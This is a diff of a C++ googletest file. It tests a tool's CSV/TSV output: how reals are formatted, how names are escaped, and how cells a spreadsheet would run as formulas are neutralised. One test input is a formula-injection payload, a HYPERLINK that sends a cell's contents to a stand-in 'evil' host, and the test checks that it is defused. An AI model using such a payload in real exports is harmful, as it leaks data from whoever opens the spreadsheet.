@@ -3,11 +3,13 @@
 // mode over files.
 #include "Parameter.h"
 #include "csv.h"
+#include "json_text.h"
 #include "modes.h"
 #include "support.h"
 
 #include <gtest/gtest.h>
 
+#include <cstdlib>
 #include <limits>
 #include <string>
 #include <vector>
@@ -41,7 +43,7 @@ std::string expectedRow(RowFormat format, std::size_t k, const std::string& fiel
     const char between = format == RowFormat::Csv ? ',' : '\t';
     std::vector<std::string> fields{"f.par", "3950"};
     fields.insert(fields.end(), 50, "0");
-    fields.insert(fields.end(), 150, "0");
+    fields.insert(fields.end(), 150, "0.0");
     fields.insert(fields.end(), 50, "");
     fields.insert(fields.end(), 50, "false");
     fields[k] = field;
@@ -122,6 +124,33 @@ TEST(Csv, EachValueIsWrittenAsJsonWritesItInItsColumn)
     }
 }
 
+// A column of whole numbers alone would be read as integers, and as reals in
+// the next fleet: every finite real has a decimal point or an exponent, and
+// still reads back to its 64 bits.
+TEST(Csv, EveryFiniteRealHasADecimalPointOrAnExponent)
+{
+    const struct {
+        double value;
+        const char* field;
+    } cases[] = {
+        {0.0, "0.0"},
+        {-0.0, "-0.0"},
+        {-850, "-850.0"},
+        {12345678901234568.0, "12345678901234568.0"},
+        // Digits past the 17 that tell reals apart, which pandas would read as text.
+        {-1180591620717411303424.0, "-1.1805916207174113e+21"},
+        {1e300, "1e+300"},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.field);
+        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
+            EXPECT_EQ(rowOf(format, Image().terminal(5, c.value)).row,
+                      expectedRow(format, terminalColumn + 5, c.field));
+        }
+        EXPECT_EQ(realBits(std::strtod(c.field, nullptr)), realBits(c.value));
+    }
+}
+
 TEST(Csv, NonFiniteRealsAreBareAndANaNPayloadIsWarnedOf)
 {
     const double infinity = std::numeric_limits<double>::infinity();
@@ -172,6 +201,10 @@ TEST(Csv, NamesAreQuotedForCsvAndEscapedForTsv)
         {"esc \x1b del \x7f", "esc \x1b del \x7f", "esc \x1b del \x7f"},
         // Not UTF-8: the bytes as --json writes them, which is itself quoted for CSV.
         {"bad \xff", "\"{\"\"hex\"\":\"\"62616420ff\"\"}\"", "{\"hex\":\"62616420ff\"}"},
+        // Text that starts as the hex form is written in it: no two names give one cell.
+        {"{\"hex\":\"ff\"}", "\"{\"\"hex\"\":\"\"7b22686578223a226666227d\"\"}\"",
+         "{\"hex\":\"7b22686578223a226666227d\"}"},
+        {"{\"hex\" :1}", "\"{\"\"hex\"\" :1}\"", "{\"hex\" :1}"},
         {std::string(50, ','), nullptr, nullptr},
     };
     for (const auto& c : cases) {
@@ -181,6 +214,49 @@ TEST(Csv, NamesAreQuotedForCsvAndEscapedForTsv)
         const std::string tsv = c.tsv != nullptr ? c.tsv : c.name;
         EXPECT_EQ(rowOf(RowFormat::Csv, image).row, expectedRow(RowFormat::Csv, namesColumn, csv));
         EXPECT_EQ(rowOf(RowFormat::Tsv, image).row, expectedRow(RowFormat::Tsv, namesColumn, tsv));
+    }
+}
+
+// A text cell that a spreadsheet would take for a formula (CWE-1236) is
+// written after a ', as OWASP advises, with a warning naming the file and
+// the entry; TSV escapes tab and CR already, so they start no formula there.
+TEST(Csv, TextThatASpreadsheetTakesForAFormulaIsWrittenAfterAQuote)
+{
+    const std::string warned = "written after a ' so that a spreadsheet takes it as text (--json keeps it exact)\n";
+    const struct {
+        std::string path;
+        std::string name;
+        const char* csv;
+        const char* tsv;
+        std::string warning;
+    } cases[] = {
+        {"f.par", "=HYPERLINK(\"http://evil/?\"&A2,\"click\")",
+         "\"'=HYPERLINK(\"\"http://evil/?\"\"&A2,\"\"click\"\")\"", "'=HYPERLINK(\"http://evil/?\"&A2,\"click\")",
+         "paramlist: f.par: warning: Names[0] begins with '=', "},
+        {"f.par", "-2", "'-2", "'-2", "paramlist: f.par: warning: Names[0] begins with '-', "},
+        {"f.par", "@SUM(A1)", "'@SUM(A1)", "'@SUM(A1)", "paramlist: f.par: warning: Names[0] begins with '@', "},
+        {"f.par", "\tx", "'\tx", "\\tx", "paramlist: f.par: warning: Names[0] begins with a tab, "},
+        {"f.par", "\rx", "\"'\rx\"", "\\rx", "paramlist: f.par: warning: Names[0] begins with a carriage return, "},
+        // A ' of its own gets one more, silently: a cell that begins with ' reads back as the text after it.
+        {"f.par", "'=1", "''=1", "''=1", ""},
+        {"-x,y.par", "", "\"'-x,y.par\"", "'-x,y.par", "paramlist: -x,y.par: warning: the path begins with '-', "},
+        // Standard input, named by a dash alone, which no spreadsheet takes for a formula.
+        {"-", "", "-", "-", ""},
+    };
+    for (const auto& c : cases) {
+        SCOPED_TRACE(c.path + " " + c.name);
+        for (const RowFormat format : {RowFormat::Csv, RowFormat::Tsv}) {
+            const Written written = rowOf(format, Image().name(0, c.name), c.path.c_str());
+            const std::string field = format == RowFormat::Csv ? c.csv : c.tsv;
+            const std::string between(1, format == RowFormat::Csv ? ',' : '\t');
+            if (c.name.empty()) {
+                EXPECT_EQ(written.row.substr(0, field.size() + 1), field + between);
+            } else {
+                EXPECT_EQ(written.row, expectedRow(format, namesColumn, field));
+            }
+            const bool warns = !c.warning.empty() && (format == RowFormat::Csv || field[0] == '\'');
+            EXPECT_EQ(written.warnings, warns ? c.warning + warned : "");
+        }
     }
 }
 
@@ -233,7 +309,7 @@ TEST(Csv, TheModeWritesTheHeaderThenARowForEachFileRead)
         const std::string rows = out.substr(header.size());
         const std::string first = rows.substr(0, rows.find('\n') + 1);
         EXPECT_EQ(first.compare(0, a.size() + 6, a + between + "3950" + between), 0);
-        EXPECT_NE(first.find(std::string(1, between) + "850" + between), std::string::npos);
+        EXPECT_NE(first.find(std::string(1, between) + "850.0" + between), std::string::npos);
         const std::string second = rows.substr(first.size());
         EXPECT_EQ(second.compare(0, cut.size() + 6, cut + between + "1000" + between), 0);
         EXPECT_EQ(second.find('\n'), second.size() - 1);
